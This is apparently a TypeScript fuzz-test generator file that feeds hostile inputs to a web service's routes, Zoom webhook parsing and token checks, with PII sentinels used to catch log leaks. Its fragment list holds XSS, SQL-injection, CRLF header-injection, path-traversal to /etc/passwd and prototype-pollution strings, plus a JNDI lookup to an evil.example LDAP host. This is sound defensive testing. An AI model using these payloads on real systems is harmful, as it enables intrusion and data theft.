/**
 * The bad-input suite's generators (fast-check): hostile text (markup and script, CRLF, NUL, lone
 * surrogates, RTL override, BOM, template syntax, very long strings), JSON that is not what a route
 * expects (not an object, deeply nested, truncated, prototype keys), bodies of every wrong content
 * type up to several MB, and tokens forged from genuine ones. Personal data planted in inputs uses
 * sentinels (`@pii.example` addresses, `PIISENTINEL` in names) so a log line carrying it is found.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';

/** The domain of every address the suite plants; none may reach a log line. */
export const PII_DOMAIN = 'pii.example';
/** Planted in every name the suite sends; none may reach a log line. */
export const PII_NAME = 'PIISENTINEL';

const FRAGMENTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE contacts; --",
  '\r\nSet-Cookie: pwned=1',
  '%0d%0aLocation:%20https://evil.example',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\u202egnp.exe',
  '\ufeffBOM',
  'zero\u200bwidth',
  '../../../etc/passwd',
  '{{ 7 * 7 }}{% raw %}',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  '🙂👩‍👩‍👧',
  '佐藤 花子',
  'ｆｕｌｌｗｉｄｔｈ',
  '',
  ' ',
  'null',
  '-1',
  '1e309',
  'NaN',
  'javascript:alert(1)',
  'https://evil.example/phish',
] as const;

/** One address at the sentinel domain, sometimes wrapped in hostile text. */
const PLANTED_EMAIL = fc.tuple(fc.stringMatching(/^[a-z][a-z0-9._+-]{0,20}$/), fc.constantFrom('', '<script>', '\r\n', ' ', '"')).map(([local, wrap]) => `${wrap}${local}@${PII_DOMAIN}${wrap}`);
// Built once: building an arbitrary (a regex one above all) costs far more than drawing from it.
export const plantedEmail = (): fc.Arbitrary<string> => PLANTED_EMAIL;

/** A name carrying the sentinel among hostile text. */
export const plantedName = (): fc.Arbitrary<string> => fc.tuple(fc.constantFrom(...FRAGMENTS), fc.constantFrom('', '<b>', '\r\n')).map(([fragment, prefix]) => `${prefix}${PII_NAME}${fragment}`);

/** Text a hostile client would send in any string field. */
let hostileTextArbitrary: fc.Arbitrary<string> | undefined;
export const hostileText = (): fc.Arbitrary<string> =>
  (hostileTextArbitrary ??= fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
    { weight: 2, arbitrary: fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 2, maxLength: 4 }).map((parts) => parts.join('')) },
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 2, arbitrary: plantedEmail() },
    { weight: 2, arbitrary: plantedName() },
    { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 70_000 }).map((length) => 'A'.repeat(length)) },
  ));

/** A JSON value with hostile strings at the leaves (and keys that are prototype names). */
export const hostileJson = (): fc.Arbitrary<unknown> =>
  fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      hostileText(),
      fc.constantFrom(null, true, false, 0, -1, 1e308, Number.MAX_SAFE_INTEGER + 2, 0.1),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.dictionary(fc.oneof(fc.constantFrom('__proto__', 'constructor', 'email', 'firstName', 'accountId', 'contactId', 'event', 'payload'), hostileText()), tie('value'), { maxKeys: 4 }),
    ),
  })).value;

/** `[[[[...]]]]` or `{"a":{"a":...}}`, deep enough to overflow a recursive reader. */
export const deeplyNestedJson = (): fc.Arbitrary<string> =>
  fc.tuple(fc.integer({ min: 1_000, max: 200_000 }), fc.boolean()).map(([depth, arrays]) => (arrays ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`));

/** A request body: its raw text (or bytes) and the content type it claims. */
export interface HostileBody {
  contentType: string | undefined;
  body: string | Uint8Array;
}

const CONTENT_TYPES = [
  undefined,
  'application/json',
  'application/json; charset=utf-16',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'multipart/form-data',
  'text/plain',
  'text/html',
  'application/xml',
  'application/octet-stream',
  'image/gif',
  'application/json\r\nX-Injected: 1',
  '*/*',
  ';;;',
] as const;

/** A body a route does not expect: text of each kind, JSON that is not an object, huge, binary. */
export const hostileBody = (): fc.Arbitrary<HostileBody> =>
  fc.record({
    contentType: fc.constantFrom(...CONTENT_TYPES),
    body: fc.oneof(
      { weight: 3, arbitrary: hostileJson().map((value) => JSON.stringify(value) ?? 'null') },
      { weight: 2, arbitrary: fc.constantFrom('null', '42', '"text"', '[]', 'true', '{', '{"accounts":', '[1,2', '\u0000', '', '{"__proto__":{"polluted":1}}', 'List-Unsubscribe=One-Click', 'form=preferences&topic=%E0%A4%A&topic=__proto__', '--xyz\r\nContent-Disposition: form-data; name="form"\r\n\r\npreferences\r\n--xyz--') },
      { weight: 1, arbitrary: deeplyNestedJson() },
      { weight: 2, arbitrary: hostileText() },
      { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }) },
      // Several MB: above every route's body limit.
      { weight: 1, arbitrary: fc.integer({ min: 2, max: 5 }).map((megabytes) => `{"contacts":["${'x'.repeat(megabytes * 1024 * 1024)}"]}`) },
    ),
  });

export const HTTP_METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS'] as const;

/** Header values a client can send: Latin-1 without control characters (a server refuses CR, LF and NUL before the app). */
export const hostileHeaderValue = (): fc.Arbitrary<string> => hostileText().map((text) => text.replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '?').slice(0, 4_000));

/**
 * Tokens forged from a genuine `<payload>.<mac>` token: cut, one character changed, a part
 * swapped or added, signed with another secret, or plain hostile text. None of them is genuine.
 */
export const forgedToken = (genuine: string, otherSecretToken: string): fc.Arbitrary<string> => {
  const [payload = '', mac = ''] = genuine.split('.');
  return fc.oneof(
    fc.integer({ min: 0, max: genuine.length - 1 }).map((cut) => genuine.slice(0, cut)),
    fc.tuple(fc.integer({ min: 0, max: genuine.length - 1 }), fc.constantFrom('A', 'z', '0', '-', '_', '.', '%', '~')).map(([at, character]) => {
      const replaced = `${genuine.slice(0, at)}${character}${genuine.slice(at + 1)}`;
      return replaced === genuine ? `${genuine}x` : replaced;
    }),
    fc.constantFrom(`${genuine}.extra`, `${payload}.${payload}`, `${mac}.${payload}`, `${payload}.`, `.${mac}`, '.', '..', otherSecretToken, genuine.repeat(20), `${genuine}\r\nX: y`),
    fc.base64String({ minLength: 4, maxLength: 64 }).map((random) => `${payload}.${random.replace(/=+$/, '')}`),
    hostileText(),
  );
};

/** Text as a query value: lone surrogates (which cannot be percent-encoded) become U+FFFD. */
export function queryValue(text: string): string {
  return encodeURIComponent(text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));
}

/** A token placed in a path: percent-encoded, or raw when it holds only characters a URL path keeps as they are. */
export function pathSegment(token: string): string {
  return /^[A-Za-z0-9._~!$&'()*+,;=:@-]*$/.test(token) && token !== '.' && token !== '..' ? token : queryValue(token);
}

const REMOVED = Symbol('removed');

/** Every path to a value inside `value` (objects and arrays), the root included. */
function pathsOf(value: unknown, prefix: ReadonlyArray<string | number> = []): Array<ReadonlyArray<string | number>> {
  const paths: Array<ReadonlyArray<string | number>> = [prefix];
  if (Array.isArray(value)) value.forEach((item, index) => paths.push(...pathsOf(item, [...prefix, index])));
  else if (value !== null && typeof value === 'object') for (const [key, item] of Object.entries(value)) paths.push(...pathsOf(item, [...prefix, key]));
  return paths;
}

function replaced(value: unknown, path: ReadonlyArray<string | number>, by: unknown): unknown {
  if (path.length === 0) return by === REMOVED ? undefined : by;
  const [head, ...rest] = path as [string | number, ...Array<string | number>];
  const copy = (Array.isArray(value) ? [...(value as unknown[])] : { ...(value as Record<string, unknown>) }) as Record<string | number, unknown>;
  const next = replaced(copy[head], rest, by);
  if (by === REMOVED && rest.length === 0) delete copy[head];
  else copy[head] = next;
  return copy;
}

/**
 * A well-formed `base` (a real event, a real request) broken in one to three places: a value
 * removed, or replaced by hostile JSON (planted personal data included). Most such inputs are
 * almost valid, which is where a parser's gaps are.
 */
export const mutated = (base: unknown): fc.Arbitrary<unknown> => {
  const paths = pathsOf(base);
  return fc
    .array(fc.tuple(fc.nat(paths.length - 1), fc.oneof({ weight: 1, arbitrary: fc.constant<unknown>(REMOVED) }, { weight: 4, arbitrary: hostileJson() })), { minLength: 1, maxLength: 3 })
    .map((changes) => changes.reduce<unknown>((value, [index, by]) => replaced(value, paths[index] ?? [], by), base));
};

/** One of `bases`, broken by `mutated` (built per base once, not per draw as `chain` would). */
export const mutatedOneOf = (bases: readonly unknown[]): fc.Arbitrary<unknown> => fc.oneof(...bases.map((base) => mutated(base)));

/** The addresses in `value` moved to the sentinel domain, so a log line quoting one is found. */
export function withPlantedAddresses<T>(value: T): T {
  return JSON.parse(JSON.stringify(value).replace(/@[A-Za-z0-9.-]+\.[A-Za-z]{2,}/g, `@${PII_DOMAIN}`)) as T;
}

const ZOOM_FIXTURES = ['endpoint.url_validation', 'webinar.deleted', 'webinar.ended', 'webinar.participant_joined', 'webinar.participant_left', 'webinar.registration_created', 'webinar.started', 'webinar.updated'].map((name) =>
  withPlantedAddresses(JSON.parse(readFileSync(join(import.meta.dirname, '../fixtures/zoom', `${name}.json`), 'utf8')) as unknown),
);

/** Zoom-shaped webhook bodies: a real webhook (addresses planted) broken in places, or any hostile body. */
export const zoomPayload = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: mutatedOneOf(ZOOM_FIXTURES).map((value) => JSON.stringify(value) ?? 'null') },
    { weight: 1, arbitrary: hostileBody().map(({ body }) => (typeof body === 'string' ? body : Buffer.from(body).toString('latin1'))) },
  );
